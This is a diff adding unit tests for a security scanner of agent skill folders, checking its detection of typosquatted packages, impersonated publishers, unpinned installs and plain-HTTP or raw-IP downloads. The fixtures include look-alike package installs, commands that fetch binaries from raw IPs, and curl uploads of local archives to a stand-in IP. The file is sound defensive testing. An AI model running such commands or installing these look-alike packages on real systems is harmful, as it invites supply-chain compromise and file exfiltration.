@@ -1,0 +1,197 @@
+import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { describe, expect, it } from "vitest";
+import { collectSkill } from "../../src/collect/collect";
+import { typosquatOf } from "../../src/scan/rules/typosquat";
+import { scanSkill } from "../../src/scan/scanner";
+import { keys, scan } from "./helpers";
+
+const sc4 = (files: Record<string, string>) => keys(scan(files).findings).filter((k) => k.startsWith("SC4"));
+
+describe("SC4 typosquats against the shipped download statistics", () => {
+  // Names written for this test, none taken from a corpus: each slip a different author might make.
+  it.each([
+    ["pypi", "nunpy", "numpy"],
+    ["pypi", "matplotlb", "matplotlib"],
+    ["pypi", "python3-dateutil", "python-dateutil"],
+    ["pypi", "beautifulsoup-4", "beautifulsoup4"],
+    ["pypi", "pandas-official", "pandas"],
+    ["npm", "lodahs", "lodash"],
+    ["npm", "expresss", "express"],
+    ["npm", "crossenv", "cross-env"],
+    ["npm", "dotenv_", "dotenv"],
+    ["npm", "@anthropic-ai/skd", "@anthropic-ai/sdk"],
+    ["npm", "@anthropic/sdk", "@anthropic-ai/sdk"],
+    ["npm", "@map-box/polyline", "@mapbox/polyline"],
+  ] as const)("%s %s imitates %s", (eco, name, of) => {
+    expect(typosquatOf(eco, name)?.of).toBe(of);
+  });
+
+  it.each([
+    ["pypi", "numpy"],
+    ["pypi", "Python_Dateutil"], // the same project as PyPI normalises names
+    ["pypi", "pypdf"],
+    ["pypi", "pypdf2"],
+    ["pypi", "requests-oauthlib"],
+    ["npm", "request"], // real, one letter from requests
+    ["npm", "react-dom"],
+    ["npm", "colors"],
+    ["npm", "@types/node"],
+    ["npm", "@mapbox/polyline"],
+    ["npm", "my-team-report-tool"], // unknown, but imitates nothing
+  ] as const)("%s %s is a real package or imitates none", (eco, name) => {
+    expect(typosquatOf(eco, name)).toBeNull();
+  });
+
+  it("finds a look-alike wherever it is installed, at the line that installs it", () => {
+    expect(sc4({ "requirements.txt": "pandas==2.2.2\nnunpy==1.26.4\n" })).toEqual(["SC4 requirements.txt:2"]);
+    expect(
+      sc4({
+        "package.json": JSON.stringify(
+          { name: "x", dependencies: { "@map-box/polyline": "1.2.1" } },
+          null,
+          2,
+        ),
+      }),
+    ).toEqual(["SC4 package.json:4"]);
+    expect(sc4({ "scripts/setup.sh": "#!/bin/sh\nset -e\npip install --quiet matplotlb==3.8.0\n" })).toEqual([
+      "SC4 scripts/setup.sh:3",
+    ]);
+    expect(sc4({ "scripts/run.sh": "#!/bin/sh\nnpx -y lodahs@4.17.21 --version\n" })).toEqual([
+      "SC4 scripts/run.sh:2",
+    ]);
+  });
+
+  it("stays quiet on real packages however they are spelled or pinned", () => {
+    expect(
+      sc4({
+        "requirements.txt": "Python_Dateutil==2.9.0\nrequests==2.32.3\npypdf==4.2.0\n",
+        "package.json": JSON.stringify(
+          { dependencies: { request: "2.88.2", "cross-env": "7.0.3" } },
+          null,
+          2,
+        ),
+        "scripts/setup.sh": "#!/bin/sh\npip install scikit-learn==1.5.0 beautifulsoup4==4.12.3\n",
+      }),
+    ).toEqual([]);
+  });
+});
+
+describe("SC4 publisher impersonation in metadata", () => {
+  const skillMd = (fm: string) => `---\n${fm}\n---\n\n# Helper\n\nDoes the job.\n`;
+  // Through collect, which reads the front matter and marks its namespace signs.
+  const found = async (fm: string, folder: string) => {
+    const root = path.join(mkdtempSync(path.join(tmpdir(), "sa-sc4-")), folder);
+    mkdirSync(root);
+    writeFileSync(path.join(root, "SKILL.md"), skillMd(fm));
+    const r = scanSkill(await collectSkill(root));
+    return keys(r.findings).filter((k) => k.startsWith("SC4"));
+  };
+
+  it.each([
+    ["name: openai-certified-sheets\ndescription: Spreadsheet helper.", "sheets-helper"],
+    ["name: pdf-tools\ndescription: PDF helper.\nauthor: Anthropic Applied AI", "pdf-tools"],
+    ["name: pdf-tools\ndescription: PDF helper.\nmetadata:\n  publisher: Microsoft Corporation", "pdf-tools"],
+    [
+      "name: claude-memory\ndescription: The verified Claude memory extension for long projects.",
+      "claude-memory",
+    ],
+    ["name: anthropic-official-notes\ndescription: Notes.", "anthropic-official-notes"],
+  ])("%s (folder %s) is one SC4 finding at the name line or the claim", async (fm, folder) => {
+    const f = await found(fm, folder);
+    expect(f).toHaveLength(1);
+  });
+
+  it.each([
+    // The subject, not the publisher: a tool about Claude Code, a skill that drives the official CLI.
+    ["name: claude-md-linter\ndescription: Lints CLAUDE.md files.", "claude-md-linter"],
+    [
+      "name: claude-pr-helper\ndescription: Uses the official GitHub CLI to open pull requests.",
+      "claude-pr-helper",
+    ],
+    ["name: pdf-tools\ndescription: PDF helper.\nauthor: Jane Doe <jane@example.org>", "pdf-tools"],
+    [
+      "name: aws-cost-report\ndescription: Reads AWS billing exports; not an official AWS tool.",
+      "aws-cost-report",
+    ],
+  ])("%s is quiet", async (fm, folder) => {
+    expect(await found(fm, folder)).toEqual([]);
+  });
+
+  it("several signs of one impersonation are one finding, at the name", async () => {
+    const fm =
+      "name: anthropic-verified-kit\ndescription: Official Anthropic toolkit for personas.\nauthor: Anthropic Studio";
+    expect(await found(fm, "persona-kit")).toEqual(["SC4 SKILL.md:2"]);
+  });
+});
+
+describe("SC1 ranges and what is not an install", () => {
+  const only = (files: Record<string, string>, p: string) =>
+    keys(scan(files).findings).filter((k) => k.startsWith(p));
+  const manifest = (deps: Record<string, string>, key = "dependencies") =>
+    JSON.stringify({ name: "tool", [key]: deps }, null, 2);
+
+  it.each(["^5.3.5", "~2.1.0", "1.x", "3.2.*", ">=1 <3", "1.0.0 - 2.0.0", "^1 || ^2"])(
+    "package.json range %s with no lock file is SC1 at its line",
+    (range) => {
+      expect(only({ "scripts/package.json": manifest({ mqtt: range }) }, "SC1")).toEqual([
+        "SC1 scripts/package.json:4",
+      ]);
+    },
+  );
+
+  it("a lock file beside the manifest, an exact version or a peer range is not", () => {
+    expect(only({ "package.json": manifest({ mqtt: "^5.3.5" }), "package-lock.json": "{}" }, "SC1")).toEqual(
+      [],
+    );
+    expect(only({ "package.json": manifest({ mqtt: "5.3.5" }) }, "SC1")).toEqual([]);
+    expect(only({ "package.json": manifest({ react: "^18.0.0" }, "peerDependencies") }, "SC1")).toEqual([]);
+  });
+
+  it("permissions, tool look-ups, extras and asides are not unpinned installs", () => {
+    const md = [
+      "---",
+      "name: demo-skill",
+      "description: Demo.",
+      "allowed-tools: Bash(npx tsx *), Bash(pnpm *)",
+      "---",
+      "",
+      "Install with `uv pip install anndata==0.10.9` (or `uv pip install anndata[dev,test]==0.10.9`).",
+      "",
+      "```bash",
+      "which clang uv uvx python3",
+      "uv add --group test pytest==8.2.0",
+      "```",
+    ].join("\n");
+    expect(only({ "SKILL.md": md }, "SC")).toEqual([]);
+  });
+
+  it("a quoted install in a table of red flags is an example; the same install as a step is not", () => {
+    const table = "| red flag | example |\n|---|---|\n| unpinned | `pip install foo`, `npx tool` |\n";
+    expect(only({ "references/flags.md": table }, "SC")).toEqual([]);
+    expect(only({ "SKILL.md": "# Setup\n\nFirst run `pip install foo` in the project.\n" }, "SC1")).toEqual([
+      "SC1 SKILL.md:3",
+    ]);
+  });
+});
+
+describe("SC5 plain-HTTP and raw-IP sources", () => {
+  const sc5 = (script: string) =>
+    keys(scan({ "scripts/run.sh": `#!/bin/sh\n${script}\n` }).findings).filter((k) => k.startsWith("SC5"));
+
+  it.each([
+    "curl -s -o /tmp/t.tgz http://198.51.100.7/tool.tgz",
+    "wget -q http://mirror.tools.example/dl/agent.bin -O ./agent",
+    "curl -sSL https://203.0.113.9/setup.sh -o setup.sh",
+  ])("code fetched without verification: %s", (cmd) => {
+    expect(sc5(cmd)).toEqual(["SC5 scripts/run.sh:2"]);
+  });
+
+  it.each([
+    'curl -s -F "f=@/tmp/report.tgz" http://198.51.100.7/u',
+    "curl -s -T /tmp/out.tgz http://198.51.100.7/upload",
+  ])("an upload is not an install source: %s", (cmd) => {
+    expect(sc5(cmd)).toEqual([]);
+  });
+});
